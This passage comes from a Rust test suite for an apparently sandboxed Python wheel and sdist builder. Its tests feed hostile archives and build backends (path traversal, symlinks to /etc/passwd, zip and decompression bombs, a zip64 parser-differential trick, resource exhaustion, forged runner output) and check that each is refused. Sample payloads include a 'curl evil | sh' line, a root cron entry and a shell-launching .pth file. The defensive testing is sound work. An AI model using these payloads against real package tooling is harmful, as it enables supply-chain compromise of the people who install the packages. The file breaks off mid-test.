fn file<'a>(name: &'a str, data: &'a [u8]) -> Member<'a> {
    Member {
        name,
        kind: tar::EntryType::Regular,
        data,
        link: None,
    }
}

fn link<'a>(name: &'a str, kind: tar::EntryType, target: &'a str) -> Member<'a> {
    Member {
        name,
        kind,
        data: b"",
        link: Some(target),
    }
}

/// A gzip-compressed tar of `members`, written field by field.
fn raw_tar_gz(members: &[Member<'_>]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut builder = tar::Builder::new(gz);
    for member in members {
        let mut header = tar::Header::new_old();
        let old = header.as_old_mut();
        old.name[..member.name.len()].copy_from_slice(member.name.as_bytes());
        if let Some(target) = member.link {
            old.linkname[..target.len()].copy_from_slice(target.as_bytes());
        }
        header.set_entry_type(member.kind);
        header.set_size(member.data.len() as u64);
        header.set_mode(0o644);
        header.set_mtime(1_600_000_000);
        header.set_cksum();
        builder.append(&header, member.data).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

/// The members of a correct sdist of the hostile project (with a harmless backend).
fn sdist_base() -> Vec<(String, Vec<u8>)> {
    let dir = tempfile::tempdir().unwrap();
    write_project(dir.path(), "", &[]);
    let top = format!("{PACKAGE}-{VERSION}");
    let mut members = Vec::new();
    for rel in [
        "pyproject.toml",
        "_build/backend.py",
        "hostile_demo/__init__.py",
    ] {
        members.push((
            format!("{top}/{rel}"),
            fs::read(dir.path().join(rel)).unwrap(),
        ));
    }
    let pkg_info = format!("Metadata-Version: 2.1\nName: {PROJECT}\nVersion: {VERSION}\n");
    members.push((format!("{top}/PKG-INFO"), pkg_info.into_bytes()));
    members
}

/// Writes `host/{SDIST}`: the correct sdist plus `extra` members.
fn write_sdist(scene: &Scene, extra: &[Member<'_>]) -> PathBuf {
    let base = sdist_base();
    let mut members: Vec<Member<'_>> = base.iter().map(|(n, d)| file(n, d)).collect();
    members.extend(extra.iter().copied());
    let path = scene.host().join(SDIST);
    fs::write(&path, raw_tar_gz(&members)).unwrap();
    path
}

/// Builds the wheel of an sdist holding `extra`, which must be refused (exit 3) with
/// `expected`, before any of it is written outside the scratch folder.
fn sdist_refused(extra: &[Member<'_>], expected: &str) {
    let scene = Scene::build(|scene| {
        write_sdist(scene, extra);
    });
    let sdist = scene.host().join(SDIST);
    scene.fails(
        scene.cmd().arg(&sdist),
        3,
        &[&format!(
            "error: the sdist {SDIST} was refused\n  caused by: {expected}"
        )],
    );
}

#[test]
fn control_the_hostile_sdist_base_builds() {
    let scene = Scene::build(|scene| {
        write_sdist(scene, &[]);
    });
    let built = build_ok(scene.cmd().arg(scene.host().join(SDIST)));
    assert_eq!(built, [scene.out().join(WHEEL)]);
    scene.check_host_unchanged();
}

/// A legacy `.zip` sdist of `members` (name, data), as the zip crate writes one.
fn zip_sdist(members: &[(String, Vec<u8>)]) -> Vec<u8> {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .unix_permissions(0o644);
    for (name, data) in members {
        zip.start_file(name.as_str(), options).unwrap();
        zip.write_all(data).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// A legacy `.zip` sdist builds like a tar.gz one; a `.zip` sdist with an escaping member,
/// or one that zip readers read differently (data after the end record, which CPython's
/// `zipfile` ignores; a stub prepended, which it skips), is refused (exit 3) before
/// anything is written outside.
#[test]
fn zip_sdist_builds_and_its_attacks_are_refused() {
    let name = format!("{PACKAGE}-{VERSION}.zip");
    let base = sdist_base();
    let scene =
        Scene::build(|scene| fs::write(scene.host().join(&name), zip_sdist(&base)).unwrap());
    let built = build_ok(scene.cmd().arg(scene.host().join(&name)));
    assert_eq!(built, [scene.out().join(WHEEL)]);
    scene.check_host_unchanged();

    let mut escaping = base.clone();
    escaping.push((
        format!("{PACKAGE}-{VERSION}/../../escaped.txt"),
        b"pwned".to_vec(),
    ));
    let trailing = [zip_sdist(&base).as_slice(), b"PK\x03\x04 hidden"].concat();
    let stub = [
        b"#!/bin/sh\nexec python3 -c 'import evil'\n".as_slice(),
        &zip_sdist(&base),
    ]
    .concat();
    let refused = format!("error: the sdist {name} was refused\n  caused by: ");
    for (bytes, headline, cause) in [
        (
            zip_sdist(&escaping),
            refused.clone(),
            "member `hostile_demo-1.0/../../escaped.txt` refused: the path has a `..` component",
        ),
        (
            trailing,
            refused.clone(),
            "not a valid zip archive: its end record declares a 0-byte comment, but 11 bytes \
             follow the record",
        ),
        // Told by its first bytes, before the interpreter is prepared or any zip reader
        // looks at it.
        (
            stub,
            format!("error: `{name}` is not an sdist: "),
            "it is neither a gzip-compressed tar nor a zip archive",
        ),
    ] {
        let scene = Scene::build(|scene| fs::write(scene.host().join(&name), &bytes).unwrap());
        scene.fails(
            scene.cmd().arg(scene.host().join(&name)),
            3,
            &[&headline, cause],
        );
    }
}

#[test]
fn sdist_member_with_dotdot_is_refused() {
    sdist_refused(
        &[file("hostile_demo-1.0/../../../../escaped.txt", b"pwned")],
        "member `hostile_demo-1.0/../../../../escaped.txt` refused: the path has a `..` component",
    );
}

#[test]
fn sdist_member_with_an_absolute_path_is_refused() {
    // An absolute path the test can see: where the escape would land if followed.
    let target = tempfile::tempdir().unwrap();
    let escaped = target.path().join("escaped.txt");
    let name = escaped.to_str().unwrap().to_string();
    sdist_refused(
        &[file(&name, b"pwned")],
        &format!("member `{name}` refused: the path is absolute"),
    );
    assert!(!escaped.exists());
}

#[test]
fn sdist_symlink_out_of_the_tree_is_refused() {
    sdist_refused(
        &[link(
            "hostile_demo-1.0/canary.txt",
            tar::EntryType::Symlink,
            "../../../host/canary.txt",
        )],
        "member `hostile_demo-1.0/canary.txt` refused: the link points outside the tree",
    );
    sdist_refused(
        &[link(
            "hostile_demo-1.0/passwd",
            tar::EntryType::Symlink,
            "/etc/passwd",
        )],
        "member `hostile_demo-1.0/passwd` refused: the link target is absolute",
    );
}

#[test]
fn sdist_hard_link_out_of_the_tree_is_refused() {
    sdist_refused(
        &[link(
            "hostile_demo-1.0/passwd",
            tar::EntryType::Link,
            "/etc/passwd",
        )],
        "member `hostile_demo-1.0/passwd` refused: ",
    );
    sdist_refused(
        &[link(
            "hostile_demo-1.0/canary",
            tar::EntryType::Link,
            "hostile_demo-1.0/../../host/canary.txt",
        )],
        "member `hostile_demo-1.0/canary` refused: ",
    );
}

#[test]
fn sdist_device_and_fifo_members_are_refused() {
    sdist_refused(
        &[Member {
            name: "hostile_demo-1.0/null",
            kind: tar::EntryType::Char,
            data: b"",
            link: None,
        }],
        "member `hostile_demo-1.0/null` refused: it is a character device, which an sdist may not contain",
    );
    sdist_refused(
        &[Member {
            name: "hostile_demo-1.0/pipe",
            kind: tar::EntryType::Fifo,
            data: b"",
            link: None,
        }],
        "member `hostile_demo-1.0/pipe` refused: it is a FIFO, which an sdist may not contain",
    );
}

#[test]
fn sdist_member_outside_the_top_level_folder_is_refused() {
    sdist_refused(
        &[file("elsewhere/evil.py", b"pwned")],
        "member `elsewhere/evil.py` refused: it lies outside the single top-level folder `hostile_demo-1.0`",
    );
}

/// A 64 MiB member of zeros compresses about a thousandfold: extraction stops once the
/// ratio passes 100:1 (after a 32 MiB grace), long before the bomb is written out.
#[test]
fn sdist_decompression_bomb_is_refused() {
    let zeros = vec![0u8; 64 << 20];
    let scene = Scene::build(|scene| {
        write_sdist(scene, &[file("hostile_demo-1.0/bomb.bin", &zeros)]);
    });
    let packed = fs::metadata(scene.host().join(SDIST)).unwrap().len();
    assert!(packed < 1 << 20, "the bomb is {packed} bytes packed");
    scene.fails(
        scene.cmd().arg(scene.host().join(SDIST)),
        3,
        &[
            &format!("error: the sdist {SDIST} was refused\n  caused by: archive refused: compression ratio above 100:1"),
            "(limit `max_compression_ratio`)",
        ],
    );
}

// ---- exhausting the host ------------------------------------------------------------------

/// Runs a wheel build with `limit_args` that must be stopped by the sandbox (exit 6) with
/// `expected` in its message, within `max_secs`.
fn stopped_by_the_sandbox(hostile: &str, limit_args: &[&str], expected: &[&str], max_secs: u64) {
    let scene = Scene::with_backend(hostile);
    let started = Instant::now();
    let stderr = scene.fails(&mut scene.wheel_cmd(limit_args), 6, expected);
    let took = started.elapsed();
    assert!(
        took < Duration::from_secs(max_secs),
        "the sandbox took {took:?} to stop the backend"
    );
    assert!(
        stderr.contains("was stopped by the sandbox\n  caused by: "),
        "{stderr}"
    );
}

#[test]
fn an_endless_loop_hits_the_time_limit() {
    stopped_by_the_sandbox(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    while True:
        pass
"#,
        &["--timeout", "3"],
        &[
            // The hook that was running, not the first of the run (get_requires_*).
            "hook `build_wheel` was stopped by the sandbox",
            "time limit of 3 s reached",
            "hint: raise the limit with --timeout SECONDS",
        ],
        30,
    );
}

/// Sleeping blocks in the host (WASI `poll_oneoff`), where epoch interruption cannot reach:
/// the time limit must still end it on time.
#[test]
fn a_long_sleep_hits_the_time_limit() {
    // time.sleep waits for an absolute time on the monotonic clock; select for a relative
    // one (wasmtime-wasi's fast path, a plain thread sleep).
    for sleep in ["time.sleep(3600)", "select.select([], [], [], 3600)"] {
        stopped_by_the_sandbox(
            &format!(
                r#"
import select
import time

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    {sleep}
"#
            ),
            &["--timeout", "3"],
            &[
                "time limit of 3 s reached",
                "hint: raise the limit with --timeout SECONDS",
            ],
            30,
        );
    }
}

/// A backend that allocates without bound: the refused growth surfaces as `MemoryError`
/// in the guest. Whether the backend lets it propagate, catches it and fails otherwise,
/// or asks for one huge block, the build ends as the memory limit, not as a backend error.
#[test]
fn unbounded_allocation_hits_the_memory_limit() {
    for hoard in [
        "hoard = []\n    while True:\n        hoard.append(bytearray(10 << 20))",
        "hoard = []\n    try:\n        while True:\n            hoard.append(bytearray(10 << 20))\n    \
         except MemoryError:\n        del hoard\n        raise RuntimeError('no luck')",
        "bytearray(1 << 30)",
    ] {
        stopped_by_the_sandbox(
            &format!(
                "\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    {hoard}\n"
            ),
            &["--memory-limit", "256"],
            &[
                "memory limit of 256 MiB reached",
                "hint: raise the limit with --memory-limit MIB",
            ],
            60,
        );
    }
}

/// A refused allocation the backend recovers from is not an error: the limit held, and the
/// wheel it then builds is verified like any other.
#[test]
fn a_recovered_memory_error_does_not_fail_the_build() {
    let scene = Scene::with_backend(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    try:
        bytearray(1 << 30)
        outcome = "allowed"
    except MemoryError:
        outcome = "refused"
    return finish_wheel(wheel_directory, {"1 GiB": outcome})
"#,
    );
    let report = scene.report(&mut scene.wheel_cmd(&["--memory-limit", "256"]));
    assert_eq!(report["1 GiB"], "refused");
}

#[test]
fn unbounded_output_hits_the_log_limit() {
    stopped_by_the_sandbox(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    line = "spam " * 200
    while True:
        print(line, flush=True)
"#,
        &["--log-limit", "1"],
        &[
            "output limit of 1 MiB reached: the backend printed too much",
            "hint: raise the limit with --log-limit MIB",
        ],
        60,
    );
}

/// Filling the scratch disk: the backend writes 10 MiB chunks (and gives up by itself at
/// 1 GiB, so a broken limit cannot fill the host's disk: it would build a wheel instead).
/// The write that would pass 50 MiB is refused; the scratch folders are removed.
#[test]
fn filling_the_scratch_disk_hits_the_disk_limit() {
    let scene = Scene::with_backend(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    chunk = b"\0" * (10 << 20)
    for i in range(100):
        with open("/tmp/fill-%d" % i, "wb") as f:
            f.write(chunk)
        print("wrote %d MiB" % ((i + 1) * 10), flush=True)
    return good_wheel(wheel_directory)
"#,
    );
    let stderr = scene.fails(
        &mut scene.wheel_cmd(&["--disk-limit", "50"]),
        6,
        &[
            "disk limit of 50 MiB reached in the sandbox's writable folders",
            "hint: raise the limit with --disk-limit MIB",
        ],
    );
    let written = reported(&stderr, "wrote ", " MiB");
    // The project, the runner's files and the five files' entries take a little of the 50.
    assert_eq!(written, 40, "stopped at {written} MiB\n{stderr}");
}

// ---- what the backend returns -------------------------------------------------------------

/// A wheel build whose artifact must be refused by the host (exit 7) with `expected`;
/// nothing reaches the output folder.
fn artifact_refused(hostile: &str, args: &[&str], expected: &[&str]) {
    let mut all = vec!["the backend's "];
    all.extend_from_slice(expected);
    backend_fails(hostile, args, 7, &all);
}

/// Whatever else the backend leaves in /out (a `.pth` file, a second wheel, a folder) stays
/// in the scratch folder: only the artifact the hook returned, verified, is published.
#[test]
fn only_the_returned_artifact_is_published() {
    let scene = Scene::with_backend(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = good_wheel(wheel_directory)
    write(os.path.join(wheel_directory, "evil.pth"), b"import os; os.system('sh')\n")
    shutil.copy(os.path.join(wheel_directory, name), os.path.join(wheel_directory, "requests-2.0-py3-none-any.whl"))
    os.mkdir(os.path.join(wheel_directory, "extra"))
    return finish_wheel(wheel_directory, {"left in /out": repr(sorted(os.listdir(wheel_directory)))})

import shutil
"#,
    );
    let report = scene.report(&mut scene.wheel_cmd(&[]));
    assert_eq!(
        report["left in /out"],
        format!("['evil.pth', 'extra', '{WHEEL}', 'requests-2.0-py3-none-any.whl']")
    );
}

#[test]
fn returned_path_with_dotdot_is_refused() {
    artifact_refused(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    good_wheel(wheel_directory)
    return "../../etc/passwd"
"#,
        &["--wheel"],
        &[
            "artifact `../../etc/passwd` refused: the hook's return value is not a bare file name in the output folder: it holds a `/`",
        ],
    );
}

#[test]
fn returned_absolute_path_is_refused() {
    artifact_refused(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    good_wheel(wheel_directory)
    return "/etc/passwd"
"#,
        &["--wheel"],
        &[
            "artifact `/etc/passwd` refused: the hook's return value is not a bare file name in the output folder: it holds a `/`",
        ],
    );
}

#[test]
fn returned_parent_folder_is_refused() {
    artifact_refused(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    good_wheel(wheel_directory)
    return ".."
"#,
        &["--wheel"],
        &[
            "artifact `..` refused: the hook's return value is not a bare file name in the output folder: it is `.` or `..`",
        ],
    );
}

/// The wheel in /out is a symlink to a host file (relative, so that following it on the
/// host would land on /etc/passwd): the host refuses it without reading through it.
#[test]
fn wheel_symlinked_to_a_host_file_is_refused() {
    artifact_refused(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    os.symlink("../" * 12 + "etc/passwd", os.path.join(wheel_directory, wheel_name()))
    return wheel_name()
"#,
        &["--wheel"],
        &["artifact `hostile_demo-1.0-py3-none-any.whl` refused: it is a symlink"],
    );
}

/// The same with an absolute target, pointing at the canary next to the project: wasmtime
/// does not even let the guest create a symlink with an absolute target.
#[test]
fn absolute_symlinks_cannot_be_created() {
    let scene = Scene::build(|scene| {
        let hostile = format!(
            r#"
HOST = {facts}

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    os.symlink(HOST["canary"], os.path.join(wheel_directory, wheel_name()))
    return wheel_name()
"#,
            facts = host_facts(scene, &[])
        );
        write_project(&scene.project(), &hostile, &[]);
    });
    let canary = scene.canary();
    scene.fails(
        &mut scene.wheel_cmd(&[]),
        5,
        &[&format!(
            "`build_wheel` raised PermissionError: [Errno 63] Operation not permitted: '{}' -> '/out/{WHEEL}'",
            canary.display()
        )],
    );
}

#[test]
fn hard_linked_wheel_is_refused() {
    artifact_refused(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = good_wheel(wheel_directory)
    os.link(os.path.join(wheel_directory, name), "/tmp/second-name")
    return name
"#,
        &["--wheel"],
        &[
            "artifact `hostile_demo-1.0-py3-none-any.whl` refused: it has 2 hard links; an artifact must have exactly one",
        ],
    );
}

#[test]
fn returned_folder_is_refused() {
    artifact_refused(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    os.mkdir(os.path.join(wheel_directory, wheel_name()))
    return wheel_name()
"#,
        &["--wheel"],
        &[
            "artifact `hostile_demo-1.0-py3-none-any.whl` refused: it is a folder, not a regular file",
        ],
    );
}

/// A FIFO named like the wheel in the project: staging skips it (the host never opens it,
/// which would block), the guest cannot make one (WASI has no mknod), so the name the
/// backend returns does not exist.
#[test]
fn a_fifo_never_becomes_an_artifact() {
    let scene = Scene::build(|scene| {
        let hostile = r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    for source in ["/src/" + wheel_name(), "/src/pipe"]:
        if os.path.lexists(source):
            os.rename(source, os.path.join(wheel_directory, wheel_name()))
    if hasattr(os, "mkfifo"):
        try:
            os.mkfifo(os.path.join(wheel_directory, wheel_name()))
        except OSError as e:
            print("mkfifo refused:", e)
    return wheel_name()
"#;
        write_project(&scene.project(), hostile, &[]);
        for name in [WHEEL, "pipe"] {
            let path =
                std::ffi::CString::new(scene.project().join(name).to_str().unwrap()).unwrap();
            // SAFETY: a valid NUL-terminated path.
            assert_eq!(unsafe { libc::mkfifo(path.as_ptr(), 0o644) }, 0);
        }
    });
    let stderr = scene.fails(
        &mut scene.wheel_cmd(&[]),
        7,
        &[
            &format!("warning: skipped `{WHEEL}`: it is a FIFO"),
            "artifact `hostile_demo-1.0-py3-none-any.whl` refused: it does not exist in the output folder",
        ],
    );
    assert!(
        stderr.contains("warning: skipped `pipe`: it is a FIFO"),
        "{stderr}"
    );
}

// ---- what the backend's artifacts hold ----------------------------------------------------

/// A backend whose `build_wheel` writes the in-tree backend's members after `tamper`
/// (Python statements on `members`, a dict of path → bytes) ran.
fn tampered_backend(tamper: &str) -> String {
    format!(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name, package, version = _project()
    members = wheel_members(name, package, version)
{}
    return write_wheel(wheel_directory, wheel_name(), members)
"#,
        tamper
            .lines()
            .map(|l| format!("    {l}\n"))
            .collect::<String>()
    )
}

/// The wheel of [`tampered_backend`] must be refused for `expected`.
fn tampered_wheel(tamper: &str, expected: &str) {
    artifact_refused(
        &tampered_backend(tamper),
        &["--wheel"],
        &[&format!("artifact `{WHEEL}` refused: {expected}")],
    );
}

#[test]
fn wheel_with_a_zip_slip_member_is_refused() {
    tampered_wheel(
        r#"members["../../../../tmp/evil.py"] = b"import os"
rerecord(members)"#,
        "member `../../../../tmp/evil.py` refused: the path has a `..` component",
    );
}

#[test]
fn wheel_with_an_absolute_member_is_refused() {
    tampered_wheel(
        r#"members["/etc/cron.d/evil"] = b"* * * * * root sh"
rerecord(members)"#,
        "member `/etc/cron.d/evil` refused: the path is absolute",
    );
}

#[test]
fn wheel_with_a_symlink_member_is_refused() {
    tampered_wheel(
        r#"info = zipfile.ZipInfo("hostile_demo/passwd", EPOCH)
info.external_attr = 0o120777 << 16
with zipfile.ZipFile(os.path.join(wheel_directory, wheel_name()), "w") as z:
    for path, data in members.items():
        z.writestr(zipfile.ZipInfo(path, EPOCH), data)
    z.writestr(info, "/etc/passwd")
return wheel_name()"#,
        "member `hostile_demo/passwd` is a symlink",
    );
}

#[test]
fn wheel_with_a_wrong_record_hash_is_refused() {
    tampered_wheel(
        r#"members["hostile_demo/__init__.py"] = b"import os; os.system('curl evil | sh')\n""#,
        "RECORD hash of `hostile_demo/__init__.py` does not match its contents",
    );
}

#[test]
fn wheel_with_a_file_missing_from_record_is_refused() {
    tampered_wheel(
        r#"members = dict(list(members.items())[:-1] + [("hostile_demo/backdoor.py", b"import os\n")] + list(members.items())[-1:])"#,
        "member `hostile_demo/backdoor.py` is not listed in RECORD",
    );
}

#[test]
fn wheel_with_a_duplicate_member_is_refused() {
    tampered_wheel(
        r#"members = Pairs(list(members.items()) + [("hostile_demo/__init__.py", b"import os\n")])"#,
        "member `hostile_demo/__init__.py` appears more than once",
    );
}

/// Issue 14's zip parser differential: two zip64 end records. The locator points at one
/// (listing the correct wheel) whose extensible data hides three more members, a second
/// central directory and a second zip64 end record exactly 56 bytes before the locator,
/// where CPython's `zipfile` reads it. The backend checks that `zipfile` (in the guest)
/// sees the hidden members; the host must refuse the wheel, naming the zip rule.
#[test]
fn wheel_with_two_zip64_end_records_is_refused() {
    tampered_wheel(
        r#"import struct
def parts(pairs):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for path, data in pairs:
            z.writestr(zipfile.ZipInfo(path, EPOCH), data)
    raw = buf.getvalue()
    count, size, offset = struct.unpack("<HLL", raw[-12:-2])
    return raw[:offset], raw[offset:offset + size], count
def shifted(cd, first, delta):
    out, at, index = bytearray(cd), 0, 0
    while at < len(out):
        lengths = struct.unpack("<HHH", out[at + 28:at + 34])
        if index >= first:
            offset, = struct.unpack("<L", out[at + 42:at + 46])
            out[at + 42:at + 46] = struct.pack("<L", offset + delta)
        at, index = at + 46 + sum(lengths), index + 1
    return bytes(out)
def eocd64(count, size, offset, extensible=b""):
    return struct.pack("<4sQHHLLQQQQ", b"PK\x06\x06", 44 + len(extensible), 45, 45, 0, 0,
                       count, count, size, offset) + extensible
good = list(members.items())
evil = [(package + "-" + version + ".data/purelib/evil.pth", b"import os\n"),
        ("../../evil.py", b"print('escaped')\n"), (package + "/backdoor.py", b"import os\n")]
good_locals, good_cd, good_count = parts(good)
all_locals, all_cd, all_count = parts(good + evil)
x = len(good_locals)
y = x + len(good_cd)
evil_locals = all_locals[x:]
evil_cd = shifted(all_cd, good_count, y + 56 - x)
second = eocd64(all_count, len(evil_cd), y + 56 + len(evil_locals))
first = eocd64(good_count, len(good_cd), x, evil_locals + evil_cd + second)
locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, y, 1)
end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
path = os.path.join(wheel_directory, wheel_name())
with open(path, "wb") as f:
    f.write(good_locals + good_cd + first + locator + end)
with zipfile.ZipFile(path) as z:
    assert "../../evil.py" in z.namelist(), z.namelist()
return wheel_name()"#,
        "not a valid zip archive: its zip64 locator points to offset ",
    );
}

#[test]
fn wheel_whose_metadata_names_another_version_is_refused() {
    tampered_wheel(
        r#"info = "hostile_demo-1.0.dist-info/METADATA"
members[info] = members[info].replace(b"Version: 1.0", b"Version: 6.6.6")
rerecord(members)"#,
        "`hostile_demo-1.0.dist-info/METADATA` gives version `6.6.6`, but the file name says `1.0`",
    );
}

#[test]
fn wheel_whose_metadata_names_another_project_is_refused() {
    tampered_wheel(
        r#"info = "hostile_demo-1.0.dist-info/METADATA"
members[info] = members[info].replace(b"Name: hostile-demo", b"Name: requests")
rerecord(members)"#,
        "`hostile_demo-1.0.dist-info/METADATA` names the project `requests`, but the file name says `hostile-demo`",
    );
}

#[test]
fn wheel_with_two_dist_info_folders_is_refused() {
    tampered_wheel(
        r#"members["requests-2.0.dist-info/METADATA"] = b"Metadata-Version: 2.1\nName: requests\nVersion: 2.0\n"
rerecord(members)"#,
        "it has 2 top-level `.dist-info` folders (hostile_demo-1.0.dist-info, requests-2.0.dist-info); a wheel has exactly one",
    );
}

#[test]
fn wheel_that_is_not_a_zip_is_refused() {
    artifact_refused(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    return write_bytes(wheel_directory)

def write_bytes(directory):
    with open(os.path.join(directory, wheel_name()), "wb") as f:
        f.write(b"rm -rf ~ (not a zip)\n")
    return wheel_name()
"#,
        &["--wheel"],
        &["artifact `hostile_demo-1.0-py3-none-any.whl` refused: not a valid zip archive"],
    );
}

/// An artifact larger than `--artifact-limit`: refused, naming the flag that raises it.
#[test]
fn wheel_over_the_artifact_limit_is_refused() {
    artifact_refused(
        &tampered_backend(
            r#"members["hostile_demo/noise.bin"] = os.urandom(2 << 20)
rerecord(members)"#,
        ),
        &["--wheel", "--artifact-limit", "1"],
        &[
            &format!("artifact `{WHEEL}` refused: file of "),
            "bytes is larger than 1048576 bytes (limit `max_artifact_bytes`)",
            "hint: raise the limit with --artifact-limit MIB",
        ],
    );
}

/// A zip bomb: 64 MiB of zeros deflate to about 64 KiB. The declared sizes pass 100:1
/// (after a 32 MiB grace), so verification refuses the wheel before unpacking anything (the
/// zip reader never yields more than the declared sizes). No flag raises this one.
#[test]
fn wheel_decompression_bomb_is_refused() {
    tampered_wheel(
        r#"members["hostile_demo/bomb.bin"] = bytes(64 << 20)
rerecord(members)
with zipfile.ZipFile(os.path.join(wheel_directory, wheel_name()), "w") as z:
    for path, data in members.items():
        z.writestr(zipfile.ZipInfo(path, EPOCH), data, compress_type=zipfile.ZIP_DEFLATED)
return wheel_name()"#,
        "compression ratio above 100:1 after ",
    );
}

/// A wheel for another project, consistent in itself (name, METADATA, RECORD), from the
/// sdist of this one: a registry building `hostile-demo` must not be handed a `requests`
/// wheel. Refused when the wheel is built from an sdist, the default flow as well as an
/// sdist given on the command line.
#[test]
fn wheel_of_another_project_is_refused() {
    let hostile = r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    members = {}
    for path, data in wheel_members("requests", "hostile_demo", "99.0").items():
        members[path.replace("hostile_demo-99.0", "requests-99.0")] = data
    return write_wheel(wheel_directory, "requests-99.0-py3-none-any.whl", rerecord(members))
"#;
    let expected = "the backend's wheel `requests-99.0-py3-none-any.whl` (from build_wheel) was refused\n  \
                    caused by: it is a wheel of requests 99.0, but the sdist `hostile_demo-1.0.tar.gz` is hostile-demo 1.0";
    let scene = Scene::with_backend(hostile);
    scene.fails(scene.cmd().arg(scene.project()), 7, &[expected]);

    let scene = Scene::build(|scene| {
        write_sdist(scene, &[]);
        let sdist = scene.host().join(SDIST);
        // The same sdist, with the hostile backend.
        let dir = tempfile::tempdir().unwrap();
        write_project(dir.path(), hostile, &[]);
        let backend = fs::read(dir.path().join("_build/backend.py")).unwrap();
        let base = sdist_base();
        let members: Vec<Member<'_>> = base
            .iter()
            .map(|(n, d)| {
                if n.ends_with("_build/backend.py") {
                    file(n, &backend)
                } else {
                    file(n, d)
                }
            })
            .collect();
        fs::write(&sdist, raw_tar_gz(&members)).unwrap();
    });
    scene.fails(scene.cmd().arg(scene.host().join(SDIST)), 7, &[expected]);
}

/// The backend's sdist links to a host file: the guest cannot read through the link, and
/// the host refuses the sdist before extracting or publishing it.
#[test]
fn built_sdist_with_a_link_out_of_the_tree_is_refused() {
    artifact_refused(
        r#"
build_sdist_base = build_sdist

def build_sdist(sdist_directory, config_settings=None):
    # The base backend adds every file of the package, this link included.
    os.symlink("../" * 12 + "etc/passwd", "hostile_demo/passwd")
    return build_sdist_base(sdist_directory, config_settings)
"#,
        &["--sdist"],
        &[
            "sdist `hostile_demo-1.0.tar.gz` (from build_sdist) was refused\n  caused by: artifact `hostile_demo-1.0.tar.gz` refused: member `hostile_demo-1.0/hostile_demo/passwd` refused: the link points outside the tree",
        ],
    );
}

/// `prepare_metadata_for_build_wheel` returns a `.dist-info` folder whose METADATA is a
/// symlink to a host file: refused, nothing copied.
#[test]
fn metadata_folder_with_a_symlink_is_refused() {
    artifact_refused(
        r#"
def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    info = os.path.join(metadata_directory, "hostile_demo-1.0.dist-info")
    os.mkdir(info)
    os.symlink("../" * 12 + "etc/passwd", os.path.join(info, "METADATA"))
    return "hostile_demo-1.0.dist-info"
"#,
        &["--metadata-dir"],
        &["artifact `hostile_demo-1.0.dist-info` refused: `METADATA` inside it is a symlink"],
    );
}

// ---- breaking the protocol ----------------------------------------------------------------

#[test]
fn os_exit_in_a_hook_leaves_no_artifact() {
    backend_fails(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    good_wheel(wheel_directory)
    os._exit(0)
"#,
        &["--wheel"],
        5,
        &["ended without a result (the interpreter exited with code 0)"],
    );
}

#[test]
fn sys_exit_in_a_hook_is_a_backend_error() {
    backend_fails(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    good_wheel(wheel_directory)
    sys.exit(0)
"#,
        &["--wheel"],
        5,
        &[
            "hook `build_wheel` of build backend `backend` failed: `build_wheel` raised SystemExit: 0",
        ],
    );
}

/// The backend writes the runner's output.json itself, claiming success for an artifact
/// that does not exist, and leaves before the runner can write the truth.
#[test]
fn forged_output_json_claiming_a_bogus_artifact_is_refused() {
    artifact_refused(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    good_wheel(wheel_directory)
    forged = {"results": [
        {"hook": "get_requires_for_build_wheel", "status": "ok", "return_value": []},
        {"hook": "build_wheel", "status": "ok", "return_value": "bogus-6.6.6-py3-none-any.whl"},
    ], "stopped_for_requirements": False}
    with open("/wasm-build/io/output.json", "w") as f:
        _json.dump(forged, f)
    os._exit(0)
"#,
        &["--wheel"],
        &[
            "artifact `bogus-6.6.6-py3-none-any.whl` refused: it does not exist in the output folder",
        ],
    );
}

/// The backend rewrites the runner's own function so that it reports a host path.
#[test]
fn patched_runner_reporting_a_host_path_is_refused() {
    artifact_refused(
        r#"
import __main__

_real_write_output = __main__.write_output

def _forge(payload):
    for result in payload["results"]:
        if result["hook"] == "build_wheel":
            result.update(status="ok", return_value="/etc/passwd")
    _real_write_output(payload)

__main__.write_output = _forge

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    raise RuntimeError("pretend to fail; the forged output says otherwise")
"#,
        &["--wheel"],
        &[
            "artifact `/etc/passwd` refused: the hook's return value is not a bare file name in the output folder: it holds a `/`",
        ],
    );
}

#[test]
fn output_json_larger_than_4_mib_is_refused() {
    backend_fails(
        r#"
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with open("/wasm-build/io/output.json", "w") as f:
